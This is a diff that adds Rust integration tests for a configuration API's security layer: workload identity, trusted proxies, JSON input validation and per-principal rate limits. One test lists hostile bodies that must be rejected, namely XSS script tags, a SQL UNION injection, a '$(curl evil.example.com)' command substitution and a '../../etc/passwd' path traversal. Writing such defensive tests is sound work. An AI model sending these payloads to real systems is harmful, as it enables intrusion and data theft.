@@ -4,15 +4,19 @@
 
 use axum::{
     body::Body,
+    extract::ConnectInfo,
     http::{Request, StatusCode},
 };
-use llm_config_api::{create_router, SecurityState, ServerConfig};
-use llm_config_core::ConfigManager;
+use llm_config_api::{create_router, ClientCertificate, SecurityState, ServerConfig, TlsSession};
+use llm_config_core::{ConfigManager, ConfigValue, Environment};
+use llm_config_rbac::{Role, RoleAssignment};
 use llm_config_security::{
-    InputValidator, PolicyEnforcer, RateLimitConfig, RateLimiter, SecurityPolicy,
+    InputValidator, PolicyEnforcer, PrincipalQuota, PrincipalQuotas, RateLimitConfig,
+    RateLimiter, SecurityPolicy, WorkloadIdentityMapper, WorkloadMapping,
 };
+use std::collections::HashMap;
 use std::net::SocketAddr;
-use std::sync::Arc;
+use std::sync::{Arc, RwLock};
 use tempfile::TempDir;
 use tower::ServiceExt;
 
@@ -442,3 +446,321 @@ async fn test_security_context_creation() {
     // Request should proceed normally (not blocked)
     assert!(response.status() != StatusCode::INTERNAL_SERVER_ERROR);
 }
+
+/// Build a request as forwarded by an mTLS proxy for the given SPIFFE ID
+fn workload_request(uri: &str, spiffe_id: &str) -> Request<Body> {
+    let addr: SocketAddr = "127.0.0.1:8080".parse().unwrap();
+    Request::builder()
+        .uri(uri)
+        .header(
+            "x-forwarded-client-cert",
+            format!("Hash=abc123;URI={}", spiffe_id),
+        )
+        .extension(ConnectInfo(addr))
+        .body(Body::empty())
+        .unwrap()
+}
+
+/// Security state accepting forwarded certificates from a proxy on localhost
+fn create_workload_security_state() -> SecurityState {
+    create_test_security_state()
+        .with_trusted_proxies(vec!["127.0.0.1".to_string()])
+        .with_workload_identities(
+            WorkloadIdentityMapper::new("prod.example.org").with_mapping(
+                WorkloadMapping::new("spiffe://prod.example.org/ns/ml/sa/serving", "ml-serving")
+                    .with_namespace("ml*"),
+            ),
+        )
+}
+
+#[tokio::test]
+async fn test_workload_identity_namespace_scope() {
+    let (manager, _temp_dir) = create_test_manager();
+    manager
+        .set(
+            "ml",
+            "model",
+            ConfigValue::String("gpt".to_string()),
+            Environment::Development,
+            "admin",
+        )
+        .unwrap();
+    let app = create_router(Arc::new(manager), create_workload_security_state());
+
+    let response = app
+        .clone()
+        .oneshot(workload_request(
+            "/api/v1/configs/ml/model",
+            "spiffe://prod.example.org/ns/ml/sa/serving",
+        ))
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+
+    let response = app
+        .oneshot(workload_request(
+            "/api/v1/configs/billing/model",
+            "spiffe://prod.example.org/ns/ml/sa/serving",
+        ))
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::FORBIDDEN);
+}
+
+#[tokio::test]
+async fn test_unmapped_workload_identity_rejected() {
+    let (manager, _temp_dir) = create_test_manager();
+    let app = create_router(Arc::new(manager), create_workload_security_state());
+
+    for spiffe_id in [
+        "spiffe://prod.example.org/ns/ml/sa/batch",
+        "spiffe://evil.example.org/ns/ml/sa/serving",
+    ] {
+        let response = app
+            .clone()
+            .oneshot(workload_request("/api/v1/configs/ml/model", spiffe_id))
+            .await
+            .unwrap();
+        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
+    }
+}
+
+#[tokio::test]
+async fn test_forwarded_certificate_requires_trusted_proxy() {
+    let (manager, _temp_dir) = create_test_manager();
+    let security_state = create_test_security_state().with_workload_identities(
+        WorkloadIdentityMapper::new("prod.example.org")
+            .with_mapping(WorkloadMapping::new("spiffe://prod.example.org/ns/ml/sa/serving", "ml-serving")),
+    );
+    let app = create_router(Arc::new(manager), security_state);
+
+    // An unmapped identity would be rejected, but a client that is not a
+    // trusted proxy cannot claim one at all: the header is ignored
+    let response = app
+        .oneshot(workload_request(
+            "/api/v1/configs/ml/model",
+            "spiffe://prod.example.org/ns/ml/sa/batch",
+        ))
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::NOT_FOUND);
+}
+
+/// Build a JSON POST request with the given body
+fn json_request(uri: &str, body: &str) -> Request<Body> {
+    let addr: SocketAddr = "127.0.0.1:8080".parse().unwrap();
+    Request::builder()
+        .method("POST")
+        .uri(uri)
+        .header("content-type", "application/json")
+        .extension(ConnectInfo(addr))
+        .body(Body::from(body.to_string()))
+        .unwrap()
+}
+
+#[tokio::test]
+async fn test_json_body_injection_blocked() {
+    let (manager, _temp_dir) = create_test_manager();
+    let manager = Arc::new(manager);
+    let app = create_router(Arc::clone(&manager), create_test_security_state());
+
+    for body in [
+        r#"{"value": "<script>alert(1)</script>", "env": "development"}"#,
+        r#"{"value": "\u003cscript\u003ealert(1)\u003c/script\u003e", "env": "development"}"#,
+        r#"{"value": {"query": "x' UNION SELECT secret FROM configs"}, "env": "development"}"#,
+        r#"{"value": "$(curl evil.example.com)", "env": "development"}"#,
+        r#"{"value": "ok", "env": "development", "../../etc/passwd": 1}"#,
+        r#"{"value": "unterminated"#,
+    ] {
+        let response = app
+            .clone()
+            .oneshot(json_request("/api/v1/configs/test/key", body))
+            .await
+            .unwrap();
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "body: {}", body);
+    }
+
+    assert!(manager
+        .get("test", "key", Environment::Development)
+        .unwrap()
+        .is_none());
+}
+
+#[tokio::test]
+async fn test_json_body_valid_payload_passes() {
+    let (manager, _temp_dir) = create_test_manager();
+    let manager = Arc::new(manager);
+    let app = create_router(Arc::clone(&manager), create_test_security_state());
+
+    let response = app
+        .oneshot(json_request(
+            "/api/v1/configs/test/dsn",
+            r#"{"value": "postgres://app:p@ss;word@db/app?sslmode=require", "env": "development"}"#,
+        ))
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+
+    let entry = manager
+        .get("test", "dsn", Environment::Development)
+        .unwrap()
+        .unwrap();
+    assert_eq!(
+        entry.value.as_str(),
+        Some("postgres://app:p@ss;word@db/app?sslmode=require")
+    );
+}
+
+#[tokio::test]
+async fn test_json_body_over_size_limit_blocked() {
+    let (manager, _temp_dir) = create_test_manager();
+
+    let policy = SecurityPolicy {
+        require_tls: false,
+        max_request_size: 64,
+        ..Default::default()
+    };
+    let security_state = SecurityState::with_components(
+        RateLimiter::new(RateLimitConfig::default()),
+        InputValidator::default(),
+        PolicyEnforcer::new(policy),
+    );
+    let app = create_router(Arc::new(manager), security_state);
+
+    // No content-length header, so only buffering can enforce the limit
+    let body = format!(r#"{{"value": "{}", "env": "development"}}"#, "a".repeat(128));
+    let response = app
+        .oneshot(json_request("/api/v1/configs/test/key", &body))
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
+}
+
+/// Build a GET request from the given peer with an `X-Forwarded-For` header
+fn forwarded_request(peer: &str, x_forwarded_for: &str) -> Request<Body> {
+    let addr: SocketAddr = peer.parse().unwrap();
+    Request::builder()
+        .uri("/api/v1/configs/test/key")
+        .header("x-forwarded-for", x_forwarded_for)
+        .extension(ConnectInfo(addr))
+        .body(Body::empty())
+        .unwrap()
+}
+
+#[tokio::test]
+async fn test_forwarded_client_ip_from_trusted_proxy() {
+    let (manager, _temp_dir) = create_test_manager();
+    let policy = SecurityPolicy {
+        require_tls: false,
+        blocked_ips: vec!["198.51.100.7".to_string()],
+        ..Default::default()
+    };
+    let security_state = SecurityState::with_components(
+        RateLimiter::new(RateLimitConfig::default()),
+        InputValidator::default(),
+        PolicyEnforcer::new(policy),
+    );
+    let manager = Arc::new(manager);
+
+    // Behind a trusted proxy the forwarded client IP is checked
+    let app = create_router(
+        Arc::clone(&manager),
+        security_state.clone().with_trusted_proxies(vec!["10.0.0.0/8".to_string()]),
+    );
+    let response = app
+        .clone()
+        .oneshot(forwarded_request("10.0.0.1:443", "198.51.100.7"))
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::FORBIDDEN);
+
+    let response = app
+        .clone()
+        .oneshot(forwarded_request("10.0.0.1:443", "198.51.100.8"))
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::NOT_FOUND);
+
+    // An untrusted peer cannot choose its IP
+    let response = app
+        .oneshot(forwarded_request("203.0.113.1:443", "198.51.100.7"))
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::NOT_FOUND);
+
+    // Without trusted proxies the headers are ignored
+    let app = create_router(manager, security_state);
+    let response = app
+        .oneshot(forwarded_request("10.0.0.1:443", "198.51.100.7"))
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::NOT_FOUND);
+}
+
+/// Build a GET request from a user
+fn user_request(user: &str) -> Request<Body> {
+    let addr: SocketAddr = "127.0.0.1:8080".parse().unwrap();
+    Request::builder()
+        .uri("/api/v1/configs/test/key")
+        .header("x-user-id", user)
+        .extension(ConnectInfo(addr))
+        .body(Body::empty())
+        .unwrap()
+}
+
+/// Build a GET request from a user authenticated by a client certificate
+fn certificate_request(user: &str) -> Request<Body> {
+    let mut request = user_request(user);
+    request.extensions_mut().insert(TlsSession {
+        version: "1.3",
+        client_certificate: Some(ClientCertificate {
+            common_name: Some(user.to_string()),
+            uris: Vec::new(),
+        }),
+    });
+    request
+}
+
+#[tokio::test]
+async fn test_per_principal_rate_limit() {
+    let (manager, _temp_dir) = create_test_manager();
+    let quota = |burst| PrincipalQuota {
+        requests_per_second: 1,
+        burst,
+    };
+
+    let mut rbac = llm_config_rbac::PolicyEnforcer::new();
+    rbac.assign_role(RoleAssignment::new("reader", Role::Viewer));
+    let security_state = create_test_security_state()
+        .with_principal_quotas(PrincipalQuotas {
+            default: Some(quota(5)),
+            roles: HashMap::from([("viewer".to_string(), quota(1))]),
+            principals: HashMap::from([("noisy".to_string(), quota(2))]),
+        })
+        .with_principal_roles(Arc::new(RwLock::new(rbac)));
+    let app = create_router(Arc::new(manager), security_state);
+
+    let mut statuses = Vec::new();
+    for _ in 0..3 {
+        let response = app.clone().oneshot(certificate_request("noisy")).await.unwrap();
+        statuses.push(response.status());
+    }
+    assert_eq!(
+        statuses,
+        [StatusCode::NOT_FOUND, StatusCode::NOT_FOUND, StatusCode::TOO_MANY_REQUESTS]
+    );
+
+    // Role quota
+    let response = app.clone().oneshot(certificate_request("reader")).await.unwrap();
+    assert_eq!(response.status(), StatusCode::NOT_FOUND);
+    let response = app.clone().oneshot(certificate_request("reader")).await.unwrap();
+    assert_eq!(response.status(), StatusCode::TOO_MANY_REQUESTS);
+
+    // Other principals keep their own quota
+    let response = app.clone().oneshot(certificate_request("quiet")).await.unwrap();
+    assert_eq!(response.status(), StatusCode::NOT_FOUND);
+
+    // An unverified x-user-id does not select a principal bucket
+    let response = app.oneshot(user_request("noisy")).await.unwrap();
+    assert_eq!(response.status(), StatusCode::NOT_FOUND);
+}